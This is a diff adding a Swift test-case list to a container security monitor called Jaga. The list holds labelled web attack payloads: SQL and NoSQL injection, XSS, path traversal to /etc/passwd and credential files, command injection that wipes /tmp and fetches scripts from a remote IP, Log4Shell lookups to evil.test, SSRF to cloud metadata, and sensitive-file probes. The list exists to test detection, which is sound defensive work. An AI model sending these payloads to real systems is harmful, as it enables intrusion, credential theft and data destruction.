@@ -1,0 +1,107 @@
+// Jaga - container security monitor
+// SPDX-License-Identifier: Apache-2.0
+
+extension AuthoredCases {
+    /// Whole targets: `class|path and query`.
+    static let targets = #"""
+        nosqli|/login?user[$ne]=x&pass[$ne]=x
+        nosqli|/api?u[$gt]=
+        nosqli|/api?u[$regex]=.*
+        nosqli|/api?u[$in][]=admin
+        nosqli|/api?filter[$where]=1
+        nosqli|/api?u%5B%24exists%5D=true
+        code|/?__proto__[x]=1
+        code|/?constructor[prototype][x]=1
+        code|/?__proto__.x=1
+        code|/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input
+        code|/cgi-bin/php?-s
+        code|/index.php?s=/Index/\think\app/invokefunction&function=call_user_func_array&vars[0]=phpinfo&vars[1][]=1
+        code|/?class.module.classLoader.URLs%5B0%5D=0
+        code|/index.action?redirect:%25%7b1%2b1%7d
+        code|/?debug=browser&object=(%23mem=%23_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)
+        code|/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%29%7D/
+        code|/actuator/gateway/routes/x?spel=%23%7BT(java.lang.Runtime).getRuntime().exec('id')%7D
+        lfi|/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd
+        lfi|/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh
+        lfi|/..%2f..%2f..%2fetc%2fpasswd
+        lfi|/static/../../../../etc/passwd
+        lfi|/..;/manager/html
+        lfi|/public/plugins/alertlist/../../../../../../etc/passwd
+        lfi|/icons/..%5c..%5cwindows/win.ini
+        lfi|/?page=../../../../etc/passwd
+        lfi|/?file=....//....//etc/passwd
+        lfi|/download.php?f=%2fetc%2fpasswd
+        lfi|/WEB-INF/web.xml
+        lfi|//etc/passwd
+        lfi|/static..//etc/passwd
+        lfi|/assets../.env
+        rce|/cgi-bin/test.cgi?;id
+        rce|/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>/tmp/x)
+        rce|/shell?cd+/tmp;rm+-rf+*;wget+http://1.2.3.4/x.sh
+        rce|/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://1.2.3.4/x+-O+/tmp/x
+        rce|/ping?host=127.0.0.1%3Bcat%20/etc/passwd
+        rce|/diag.html?ip=`id`
+        rce|/cgi-bin/%2e%2e/%2e%2e/bin/sh?echo;id
+        rce|/?cmd=whoami
+        rce|/shell.php?cmd=id
+        rce|/x.php?cmd=ls+-la
+        rce|/?exec=uname+-a
+        rce|/backdoor.php?c=cat+/etc/passwd
+        xss|/<script>alert(1)</script>
+        xss|/%3Cimg%20src=x%20onerror=alert(1)%3E
+        xss|/search/%22%3E%3Csvg/onload=alert(1)%3E
+        xss|/page.php/"><script>alert(1)</script>
+        xss|/index.html?%3Cscript%3Ealert(1)%3C/script%3E
+        xss|/?x[<svg/onload=alert(1)>]=1
+        xss|/;javascript:alert(1)
+        sqli|/item/1'+or+'1'='1
+        sqli|/item/1%20union%20select%201,2,3
+        sqli|/users/1%27%20OR%201=1--%20
+        sqli|/cat/5%20and%20sleep(5)
+        sqli|/?id[]=1'+or+1=1--+
+        sqli|/?1'+or+1=1--+
+        sqli|/index.php?id=1&sort=name,(select+sleep(5))
+        sqli|/?data={"id":"1' or 1=1-- "}
+        sqli|/?data={"filter":{"name":"x' union select 1,2-- "}}
+        sqli|/?d=MScgdW5pb24gc2VsZWN0IDEsMiw1LS0g
+        xss|/?d=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
+        lfi|/?f=Li4vLi4vLi4vLi4vZXRjL3Bhc3N3ZA==
+        rce|/?c=O2NhdCAvZXRjL3Bhc3N3ZA==
+        xss|/?json=%7B%22a%22%3A%22%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E%22%7D
+        lfi|/?json={"file":"../../../../etc/passwd"}
+        rce|/?json={"host":"127.0.0.1;cat /etc/passwd"}
+        ssrf|/?json={"url":"http://169.254.169.254/latest/"}
+        ssti|/?json={"name":"{{7*7}}"}
+        log4shell|/${jndi:ldap://evil.test/a}
+        log4shell|/%24%7Bjndi%3Aldap%3A%2F%2Fevil.test%2Fa%7D
+        log4shell|/?${jndi:ldap://evil.test/a}=1
+        ssti|/{{7*7}}
+        ssti|/__$%7BT(java.lang.Runtime).getRuntime().exec(%22id%22)%7D__::.x
+        crlf|/%0d%0aSet-Cookie:a=b
+        crlf|/x%0aLocation:http://evil.test
+        crlf|/?q=x%E5%98%8D%E5%98%8ASet-Cookie:a=b
+        probe|/.env
+        probe|/.git/config
+        probe|/.git/HEAD
+        probe|/.svn/entries
+        probe|/.DS_Store
+        probe|/.aws/credentials
+        probe|/.ssh/id_rsa
+        probe|/wp-config.php.bak
+        probe|/wp-config.php~
+        probe|/dump.sql.gz
+        probe|/actuator/env
+        probe|/actuator/heapdump
+        probe|/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
+        probe|/boaform/admin/formLogin
+        probe|/HNAP1/
+        probe|/_ignition/execute-solution
+        probe|/.vscode/sftp.json
+        probe|/config.json.bak
+        probe|/.htpasswd
+        probe|/id_rsa
+        probe|/.dockerenv
+        probe|/jmx-console/
+        probe|/.well-known/../.env
+        """#
+}
